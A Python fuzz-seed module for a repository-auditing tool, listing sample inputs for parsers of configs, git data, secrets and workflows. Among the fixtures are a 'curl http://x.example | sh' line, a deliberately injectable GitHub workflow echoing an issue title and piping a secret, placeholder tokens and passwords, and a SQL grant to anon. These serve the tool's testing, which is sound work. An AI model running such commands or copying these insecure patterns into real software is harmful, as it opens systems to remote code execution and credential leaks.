"""What each target begins with: the example repositories, and inputs that reach what lies behind.

The fuzzer gets further from something that is understood; and a test holds that these inputs run
every parser of the project.
"""

import struct
from collections.abc import Iterator, Mapping
from functools import cache
from pathlib import Path

from tests.fuzz.altered import joined

_LARGEST = 4_000
"""Longer examples slow the fuzzer down."""
_SUFFIXES: Mapping[str, tuple[str, ...]] = {
    "yaml": (".yml", ".yaml"),
    "toml": (".toml",),
    "jsonc": (".json",),
    "dockerfile": ("Dockerfile", ".api", ".dockerignore"),
    "hcl": (".tf", ".hcl"),
    "shell": (".sh",),
    "sql": (".sql",),
    "markdown": (".md",),
    "code": (".py", ".ts", ".tsx", ".js"),
    "codeowners": ("CODEOWNERS",),
    "ignores": (".gitignore",),
    "changelog": ("CHANGELOG.md",),
    "yaml-edits": (".yml", ".yaml"),
    "toml-edits": (".toml",),
    "configuration": (".toml",),
}
_WRITTEN: Mapping[str, tuple[bytes, ...]] = {
    "makefile": (b"a: b ## x\n\t@pytest -q \\\n\t  x\n.PHONY: a\nX := $(shell y)\n",),
    "images": (b"ghcr.io:443/acme/api:1.2@sha256:" + b"0" * 64, b"${A:-python}:3-slim"),
    "expressions": (b"${{ github.ref == 'refs/heads/x' && !contains(a.b['c'], 1) }}", b"v[0-9]+.*"),
    "commit": (b"tree 0\nauthor A <a@b.c> 1 +0100\nencoding latin1\n\nfeat(x)!: y (#12)\n",),
    "mailmap": (b"A <a@b.c> B <d@e.f>\n# x\n<a@b.c> <g@h.i>\n",),
    "versions": (b"1.2.3-rc.1+5", b'[project]\nversion = "1.2.3"\n', b'__version__ = "1.0"\n',
                 b'{"version": "1.0"}', b"[metadata]\nversion = 1\n", b'[package]\nversion="1"\n'),
    "promql": (b'sum(rate(http_requests_total{job="api"}[5m])) by (le) / x',),
    "secrets": (b"API_KEY=ghp_0123456789abcdefghijABCDEFGHIJ012345", b"password='hunter2!Kx9#'",
                b"url=postgres://a:s3cr3tpassw0rd@db/x", b"x=\xff\xfea\0b\0"),
    "configuration": (b"a = [\n", b"\"a\\u0062\".'c' = 1\n[x", b"\xff = 1"),
    "escapes": (b"a\x1b[31m\xe2\x80\xae|`b`\n::error::=1+1 @a #1 https://x",),
    "gemini": (b"\x1d\x00\x03\x04", b"\x1d"),
    "list": (b"# all\nacme/shop\n. # here\nhttps://github.com/acme/web\n",),
    "options": (b"2026-02-20", b"acme/shop", b"https://abcd.supabase.co", b"@acme/team", b"api,web",
                b"2026-11-22T10:00:00Z", b"gemini-3.5-flash", b"Apache-2.0", b"sarif"),
    "message": (b"feat: x\n\n# comment\n# " + b"-" * 24 + b" >8 " + b"-" * 24 + b"\ny",),
    "git-names": (joined(b"origin", b"a b.txt", b"https://x@y/z", b"\xff"),),
    "git-folder": (b"ref: refs/heads/main\n", b"gitdir: ../x\n", b"../../other/objects\n",
                   b"# pack-refs\n" + b"0" * 40 + b" refs/heads/x\n^" + b"1" * 40 + b"\n"),
    "headers": (b"60", b"Mon, 23 Nov 2026 04:00:00 GMT", b"required; url=x",
                b'<https://api.github.com/x?page=2>; rel="next"', b"repo, admin:org",
                b"contents=read,metadata=read", b"/acme/store.git/info/refs"),
    "caches": (b'{"leaks": [], "archives": 0, "since": null, "gaps": [["a", "b"]]}', b"[]"),
    "line-edits": (joined(b"a\r\nb\n", b"a\nc\nb\n"), joined(b"\xff\xfea\0\n\0", b"a\nb\n")),
    "model-edits": (joined(b".github/workflows/x", b"jobs: {a: {steps: [{run: x}]}}", b"jobs: {}"),
                    joined(b"a", b"x", b"curl http://x.example | sh # noqa")),
    "git-objects": (joined(b"x", b"\n\0", b""),),
    "scan": (b"API_KEY=ghp_0123456789abcdefghijABCDEFGHIJ012345\npassword: 'hunter2!Kx9#'\n",
             joined(b"url=postgres://a:s3cr3tpassw0rd@db/x", b"fix: remove leaked password", b"x")),
    "zizmor": (joined(b"", b"completed .github/workflows/0.yml\n"),),
    "history": (b" {}", b"\x80", b"\xff\x00\x10\x00"),
    "journal": (joined(b"", b"", b""),),
    "supabase": (b"\x00", b"\x01", b"\x02", b"\x03", b"\x06", b"\x08"),
    "github": (b"\x00", b"\x04", b"\x05", b"\x06", b"\x07"),
}  # fmt: skip
_CHANGED = ("baseline", "saved", "reply", "gemini", "supabase", "journal", "zizmor", "caches")
"""Targets that take changes to a good document."""


EXAMPLES = Path(__file__).resolve().parents[2] / "examples"


@cache
def seeds(name: str) -> tuple[bytes, ...]:
    """Return what a target begins with."""
    found = [b"", *_WRITTEN.get(name, ()), *_examples(_SUFFIXES.get(name, ()))]
    if name in _CHANGED:
        found += [struct.pack(">HBB", place, 3, 8) for place in range(0, 40, 5)]
    if name in {"repository", "repairs"}:
        found += _repositories()
    return tuple(dict.fromkeys(found))


def _examples(endings: tuple[str, ...]) -> Iterator[bytes]:
    for place in sorted(EXAMPLES.rglob("*")):
        if endings and place.is_file() and place.name.endswith(endings):
            yield place.read_bytes()[:_LARGEST]


def _repositories() -> Iterator[bytes]:
    """Yield hostile histories, and both examples, whole and in pieces."""
    # Every rule is imported with it: too much for a target that reads one kind of file.
    from tests.fuzz.whole_repository import bundled, committed, named

    yield named(
        b"feature/x", b"hotfix/1.2.3", b"v1.2.3", b"release/1.0", b"HEAD", b"f\x1b[31m", b"\xff"
    )
    yield committed(b"fix: y", b"Merge branch 'x'", b'Revert "a"\n\nThis reverts commit 1', b"x")
    for top in (EXAMPLES / "good-repo", EXAMPLES / "bad-repo"):
        files = {
            place.relative_to(top).as_posix(): place.read_bytes()
            for place in sorted(top.rglob("*"))
            if place.is_file() and place.stat().st_size < _LARGEST
        }
        yield bundled(files)
    yield bundled(_FURTHER)
    yield from (bundled({path: content}) for path, content in files.items())


_FURTHER: Mapping[str, bytes] = {
    ".mailmap": b"A <a@b.c> <d@e.f>\n",
    ".secrets.baseline": b'{"results": {"a": [{"line_number": 1, "hashed_secret": "00"}]}}',
    ".gitleaksignore": b"0123:a:b:1\n",
    ".commitlintrc.json": b'{"rules": {"type-enum": [2, "always", ["feat"]]}}',
    ".gitattributes": b"*.min.js linguist-generated\n",
    "Makefile": b"test:\n\tpytest\n",
    "Taskfile.yml": b"version: 3\ntasks:\n  test:\n    cmds: [pytest]\n",
    "Procfile": b"web: uvicorn app.main:app\n",
    "package.json": b'{"workspaces": ["frontend"], "scripts": {"test": "npm -w a test"}}',
    "tsconfig.json": b'{"compilerOptions": {"paths": {"@/*": ["./src/*"]}}, // x\n}',
    "renovate.json": b'{"extends": ["config:recommended"]}',
    "railway.toml": b'[deploy]\nstartCommand = "uvicorn x"\nhealthcheckPath = "/health"\n',
    "vercel.json": b'{"crons": [{"path": "/x"}], "env": {"A": "b"}}',
    "workers/wrangler.toml": b'name = "x"\n[vars]\nA = "b"\n',
    "deploy/k8s/api.yaml": b"apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: a}\nspec:\n"
    b"  template: {spec: {containers: [{name: a, image: x, ports: [{containerPort: 80}]}]}}\n",
    "ops/runbook.md": b"# R\n\n[x](../oncall.md#a) <a href='b'>\n\n```sh\n$ sudo npm run -w workers"
    b" build && cd app; python -m x <<E\ny\nE\nmake test\n```\n\nAll actions are pinned. CI runs"
    b" gitleaks and every change is reviewed.\n\n| A | B |\n|---|---|\n| c | https://x |\n",
    ".github/workflows/deploy.yml": b"on: {issues: {}}\njobs:\n  a:\n    runs-on: ubuntu-latest\n"
    b"    container: {image: 'x:1', options: --health-retries x}\n    steps:\n"
    b"      - uses: actions/checkout@v4\n        with: {fetch-depth: 1}\n"
    b"      - run: |\n          echo '${{ github.event.issue.title }}' \\\n            || true\n"
    b"          git push\n      - run: echo ${{ secrets.A }} | docker login\n"
    b"        continue-on-error: true\n  b:\n    needs: a\n"
    b"    uses: acme/x/.github/workflows/y.yml@main\n",
    "supabase/migrations/20260102000000_y.sql": b"CREATE SCHEMA a; CREATE TABLE a.t (b text);"
    b" ALTER TABLE a.t RENAME TO u; ALTER SCHEMA a RENAME TO c;"
    b" ALTER TABLE c.u RENAME COLUMN b TO d;"
    b" CREATE FUNCTION c.f() RETURNS int LANGUAGE sql SECURITY DEFINER AS $$ SELECT 1 FROM c.u $$;"
    b" DROP FUNCTION c.f(); CREATE INDEX ON c.u (d); DROP SCHEMA c CASCADE; /* x */ DO $$ BEGIN"
    b" EXECUTE 'CREATE TABLE z ()'; END $$; GRANT ALL ON z TO anon; -- y\n",
    "docker-compose.yml": b"\xef\xbb\xbfservices: {}\n",
    ".env.example": b"API_TOKEN=ghp_0123456789abcdefghijABCDEFGHIJ012345\n",
    "Dockerfile": b"FROM python:3.12\nCOPY . .\nRUN git describe || true\n",
    "SECURITY.md": b"# Security\n\nAll actions are pinned to a commit SHA. Secrets are scanned by"
    b" gitleaks in CI.\n",
    "app/settings.py": b"import os\nAPI_KEY = 'ghp_0123456789abcdefghijABCDEFGHIJ012345'\n",
    "app/__init__.py": b"\xef\xbb\xbfx = '\xff'\r\n",
    "README.md": b"\xff\xfea\x00\n\x00",
    "deploy/kustomization.yaml": b"resources: [k8s/api.yaml]\nimages: [{name: x, newTag: '1'}]\n",
    "grafana/dashboards/api.json": b'{"title": "A",'
    b' "panels": [{"targets": [{"expr": "rate(x[5m])"}]}]}',
    "ops/prometheus/alerts.yml": b"groups:\n- name: a\n  rules:\n  - {alert: A, expr: x > 1}\n",
    "app/VERSION": b"1.2.3\n",
    "go.mod": b"module x\nrequire y v1.0.0\n",
    "Cargo.toml": b'[workspace]\nmembers = ["a"]\n[package]\nversion = "1.0.0"\n',
    "scripts/deploy.ps1": b"kubectl apply -f x\n",
    "infra/terraform/terraform.tfvars": b'a = "b"\n',
    ".pre-commit-config.yaml": b"repos: [{repo: x, rev: v1, hooks: [{id: gitleaks}]}]\n",
    "docs/postmortems/2026-01-01-x.md": b"# Outage\n\n## Impact\n\nTODO\n",
    "app/alembic/versions/1_x.py": b"def upgrade():\n    op.execute('CREATE TABLE x ()')\n",
}
